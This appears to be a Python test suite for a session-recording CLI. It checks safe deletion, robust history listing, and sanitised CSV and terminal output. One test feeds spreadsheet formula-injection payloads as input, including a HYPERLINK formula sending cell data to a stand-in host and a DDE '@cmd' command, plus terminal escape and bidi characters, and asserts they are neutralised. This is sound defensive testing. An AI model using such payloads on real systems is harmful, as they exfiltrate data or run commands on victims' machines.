"""Deleting and listing sessions the way a leader (or an adversarial tester) does it: forget and --purge never
leave the folder they were given and always say what they deleted; history always finishes, whatever sits in
its folders; CSV a spreadsheet cannot run; no control character in any output.

Some cases need the operating system to refuse: as root they run with the capabilities that bypass file
permissions dropped (setpriv), so root's own files are as protected as a user's."""

from __future__ import annotations

import csv
import io
import json
import os
import shutil
import subprocess
import sys
import typing
from pathlib import Path

import pytest

from tests.conftest import ROOT, run_balint
from tests.supervision_series import DATES, GROUP, LEADER_NAME, SERIES, transcript

#: Root without the capabilities that override permissions: file modes and the sticky bit bind it as they bind users.
AS_A_USER = ["setpriv", "--bounding-set", "-dac_override,-dac_read_search,-fowner"] if os.getuid() == 0 else []
ESC = "\x1b[31m"


def run_as_a_user(*args: str, cwd: Path = ROOT, timeout: float = 120) -> subprocess.CompletedProcess:
    return subprocess.run([*AS_A_USER, sys.executable, "-m", "balint.recorder.cli", *args], capture_output=True,
                          text=True, timeout=timeout, cwd=cwd)


@pytest.fixture(scope="module")
def one_session(tmp_path_factory) -> Path:
    """One analysed session (a supervision transcript), to copy into each test's folders."""
    root = tmp_path_factory.mktemp("one")
    path = root / "s.jsonl"
    path.write_text("".join(json.dumps(row) + "\n" for row in transcript(SERIES[0])))
    result = run_balint("analyse", "--transcript", str(path), "--out", str(root / "session"), "--group", GROUP,
                        "--leader-name", LEADER_NAME, "--date", DATES[0], "--case", "Mrs H")
    assert result.returncode == 0, result.stderr
    return root / "session"


def sessions(folder: Path, one_session: Path, count: int) -> list[Path]:
    """`count` copies of the session, dated one a fortnight apart."""
    made = []
    for number in range(count):
        target = folder / f"s{number + 1}"
        shutil.copytree(one_session, target)
        data = json.loads((target / "session.json").read_text())
        data["meta"]["date"] = DATES[number % len(DATES)]
        (target / "session.json").write_text(json.dumps(data))
        made.append(target)
    return made


def one_line_error(result: subprocess.CompletedProcess, *words: str) -> None:
    assert result.returncode == 1, result.stdout + result.stderr
    assert result.stderr.count("\n") == 1 and "Traceback" not in result.stderr, result.stderr
    for word in words:
        assert word in result.stderr, result.stderr


# -- forget -----------------------------------------------------------------------------------------------------

@pytest.mark.parametrize("target_has_other_files", [True, False])
def test_forget_refuses_a_folder_reached_through_a_link(one_session, tmp_path, target_has_other_files):
    elsewhere = tmp_path / "elsewhere"
    shutil.copytree(one_session, elsewhere)
    if target_has_other_files:
        (elsewhere / "notes.txt").write_text("the leader's own notes")
    before = sorted(p.name for p in elsewhere.iterdir())
    (tmp_path / "sessions").mkdir()
    (tmp_path / "sessions" / "linked").symlink_to(elsewhere)
    for given in ("sessions/linked", "sessions/linked/session.json", "sessions/linked/."):
        result = run_balint("forget", str(tmp_path / given))
        one_line_error(result, "symbolic link", str(elsewhere))
        assert sorted(p.name for p in elsewhere.iterdir()) == before  # nothing reached through the link
    (tmp_path / "a" / "b").mkdir(parents=True)
    shutil.copytree(one_session, tmp_path / "a" / "b" / "s")
    (tmp_path / "via").symlink_to(tmp_path / "a")  # the link is further up the path
    one_line_error(run_balint("forget", str(tmp_path / "via" / "b" / "s")), "symbolic link")
    assert (tmp_path / "a" / "b" / "s" / "session.json").exists()


def test_forget_dot_from_inside_the_session_folder_lists_what_it_deleted(one_session, tmp_path):
    folder = tmp_path / "s"
    shutil.copytree(one_session, folder)
    dry = run_as_a_user("forget", ".", "--dry-run", cwd=folder)
    assert dry.returncode == 0 and "would delete" in dry.stdout and (folder / "session.json").exists()
    result = run_as_a_user("forget", ".", cwd=folder)
    assert result.returncode == 0, result.stderr
    assert f"deleted {folder / 'session.json'}" in result.stdout and f"deleted {folder / 'report.html'}" in result.stdout
    assert f"deleted {folder}\n" in result.stdout and "removed" in result.stdout and "2 files and 1 folder" in result.stdout
    assert not folder.exists()


def test_forget_asks_in_a_terminal_and_a_no_deletes_nothing(one_session, tmp_path):
    import pty

    folder = tmp_path / "s"
    shutil.copytree(one_session, folder)
    controller, terminal = pty.openpty()
    process = subprocess.Popen([sys.executable, "-m", "balint.recorder.cli", "forget", str(folder)], stdin=terminal,
                               stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, cwd=ROOT)
    os.write(controller, b"n\n")
    stdout, _ = process.communicate(timeout=60)
    os.close(controller), os.close(terminal)
    assert process.returncode == 1 and "nothing was deleted" in stdout
    assert (folder / "session.json").exists() and (folder / "report.html").exists()


def test_forget_names_control_characters_harmlessly(one_session, tmp_path):
    folder = tmp_path / f"odd{ESC}name"
    shutil.copytree(one_session, folder)
    result = run_balint("forget", str(folder), "--yes")
    assert result.returncode == 0 and "\x1b" not in result.stdout + result.stderr
    assert not folder.exists()


# -- purge ------------------------------------------------------------------------------------------------------

def test_purge_refuses_before_deleting_anything_when_one_session_is_read_only(one_session, tmp_path):
    made = sessions(tmp_path / "all", one_session, 4)
    os.chmod(made[2], 0o500)
    try:
        result = run_as_a_user("history", str(tmp_path / "all"), "--purge", "--until", DATES[3])
    finally:
        os.chmod(made[2], 0o700)
    one_line_error(result, "read-only", "nothing was deleted")
    assert all((s / "session.json").exists() for s in made)


@pytest.mark.skipif(os.getuid() != 0, reason="giving files to another user needs root (CI runs as root)")
def test_purge_that_fails_part_way_has_named_what_it_deleted(one_session, tmp_path):
    made = sessions(tmp_path / "all", one_session, 3)
    third = made[2]
    for path in third.iterdir():  # someone else's readable files in a sticky folder: it is writable, they stay
        os.chown(path, 65534, 65534)
        os.chmod(path, 0o644)
    os.chown(third, 65534, 65534)
    os.chmod(third, 0o1777)
    result = run_as_a_user("history", str(tmp_path / "all"), "--purge", "--until", DATES[2], "--yes")
    assert result.returncode == 1 and "Traceback" not in result.stderr
    assert "stopped at" in result.stderr and "6 paths, each named above" in result.stderr, result.stderr
    for folder in made[:2]:
        assert not folder.exists()
        assert f"deleted {folder / 'session.json'}" in result.stdout and f"deleted {folder}\n" in result.stdout
    assert (third / "session.json").exists()


def test_purge_says_what_it_will_delete_and_a_dry_run_deletes_nothing(one_session, tmp_path):
    made = sessions(tmp_path / "all", one_session, 3)
    (made[0] / "notes.txt").write_text("kept")
    dry = run_balint("history", str(tmp_path / "all"), "--purge", "--until", DATES[1], "--dry-run")
    assert dry.returncode == 0 and "would delete: 2 sessions dated up to 2026-01-20, 4 files and 1 folder" in dry.stdout
    assert all((s / "session.json").exists() for s in made)
    done = run_balint("history", str(tmp_path / "all"), "--purge", "--until", DATES[1])
    assert "removed 2 sessions dated up to 2026-01-20: 4 files and 1 folder" in done.stdout, done.stdout
    assert sorted(p.name for p in made[0].iterdir()) == ["notes.txt"] and not made[1].exists() and made[2].exists()


def test_a_part_way_failure_is_reported_by_the_deletion_itself(one_session, tmp_path):
    from balint.analysis.history import carry_out, plan_forget

    folder = tmp_path / "s"
    shutil.copytree(one_session, folder)
    plan = plan_forget(folder)
    (folder / "report.html").unlink()  # gone between the plan and the deletion
    deleted: list[Path] = []
    with pytest.raises(FileNotFoundError):
        carry_out(plan, deleted.append)
    assert deleted == [folder / "session.json"]


# -- history always finishes ----------------------------------------------------------------------------------

def test_history_skips_a_fifo_a_device_and_an_unreadable_file_and_shows_the_rest(one_session, tmp_path):
    made = sessions(tmp_path / "all", one_session, 4)
    for folder in made[1:]:
        (folder / "session.json").unlink()
    os.mkfifo(made[1] / "session.json")
    (made[2] / "session.json").symlink_to("/dev/zero")
    (made[3] / "session.json").write_text("{}")
    os.chmod(made[3] / "session.json", 0)
    result = run_as_a_user("history", str(tmp_path / "all"), timeout=60)  # before: hung on the FIFO for ever
    assert result.returncode == 1, result.stderr
    assert "1 session)" in result.stdout and DATES[0] in result.stdout
    skipped = result.stderr.splitlines()
    assert len(skipped) == 3 and all(line.startswith("balint: skipped ") for line in skipped), skipped
    assert "not a regular file" in skipped[0] and "not a regular file" in skipped[1]
    assert "cannot be read (Permission denied)" in skipped[2]
    one_line_error(run_balint("report", str(made[1] / "session.json"), timeout=60), "not a regular file")


@pytest.mark.parametrize("field, value", [
    ("metrics.per_phase.3.speculation_share", -1e308), ("metrics.per_phase.3.feeling_share", 7.5),
    ("metrics.talk_time_s.leader_share", 1e308), ("metrics.episodes.flagged", -3),
    ("metrics.talk_time_s.per_person.Ruth", -60.0), ("episodes.0.leader_latency_s", -5.0),
])
def test_every_number_is_checked_in_its_range_when_read(one_session, tmp_path, field, value):
    made = sessions(tmp_path / "all", one_session, 2)
    data = json.loads((made[1] / "session.json").read_text())
    *path, last = field.split(".")
    target = data
    for key in path:
        target = target[int(key)] if key.isdigit() else target[key]
    target[int(last) if last.isdigit() else last] = value
    (made[1] / "session.json").write_text(json.dumps(data))
    listed = run_balint("history", str(tmp_path / "all"), "--json", "-")
    assert listed.returncode == 1 and "skipped" in listed.stderr and "a number from" in listed.stderr
    document = json.loads(listed.stdout)  # strict JSON: no -Infinity, no NaN
    assert [len(s["sessions"]) for s in document["series"]] == [1]
    one_line_error(run_balint("report", str(made[1] / "session.json"), "--out", str(tmp_path / "o")), "a number from")


def test_two_thousand_sessions_resolve_each_type_once(one_session, tmp_path, monkeypatch):
    """The history read 2,000 files in 260 s, resolving every dataclass's annotations again for every file."""
    from balint.analysis import history

    sessions(tmp_path / "many", one_session, 1)
    source = tmp_path / "many" / "s1"
    for number in range(2, 301):
        target = tmp_path / "many" / f"s{number}"
        target.mkdir()
        (target / "session.json").write_bytes((source / "session.json").read_bytes())
    calls = []
    resolve = typing.get_type_hints
    monkeypatch.setattr(typing, "get_type_hints", lambda *a, **k: calls.append(a[0]) or resolve(*a, **k))
    ticks = []
    found = history.collect([tmp_path / "many"], progress=lambda stage, done, total: ticks.append((done, total)))
    assert len(found.rows) == 300 and not found.skipped
    assert len(calls) <= 25, len(calls)  # one per record type at most, not one per file
    assert ticks[-1] == (300, 300) and len(ticks) == 300  # the progress bar's feed


# -- CSV and control characters -------------------------------------------------------------------------------

def test_csv_cells_that_would_run_as_formulas_are_kept_as_text(one_session, tmp_path):
    path = tmp_path / "s.jsonl"
    path.write_text("".join(json.dumps(row) + "\n" for row in transcript(SERIES[1])))
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    result = run_balint("analyse", "--transcript", str(path), "--out", str(tmp_path / "all" / "s"), "--case", formula,
                        "--group", "+SUM(1,2)", "--leader-name", f"@cmd{ESC}|' /C calc'!A0", "--date", DATES[1])
    assert result.returncode == 0, result.stderr
    written = run_balint("history", str(tmp_path / "all"), "--csv", "-")
    assert written.returncode == 0, written.stderr
    assert "\x1b" not in written.stdout
    rows = list(csv.DictReader(io.StringIO(written.stdout)))
    assert rows[0]["case"] == "'" + formula and rows[0]["group"] == "'+SUM(1,2)"
    assert rows[0]["leader_name"].startswith("'@cmd")
    for row in rows:
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row.values()), row


def test_control_characters_never_reach_the_terminal_or_a_file(one_session, tmp_path):
    made = sessions(tmp_path / f"folder{ESC}", one_session, 2)
    data = json.loads((made[0] / "session.json").read_text())
    data["meta"].update(group=f"Tuesday{ESC} group\u202e", leader_name="Dr\x07 Lee", case="Mrs\x9b H")
    (made[0] / "session.json").write_text(json.dumps(data))
    (made[1] / "session.json").write_text("not json")
    for output in ("--csv", "--json", None):
        result = run_balint("history", str(tmp_path / f"folder{ESC}"), *((output, "-") if output else ()))
        shown = result.stdout + result.stderr
        assert result.returncode == 1 and "skipped" in result.stderr
        assert not any(c in shown for c in ("\x1b", "\x07", "\x9b", "\u202e")), repr(shown)
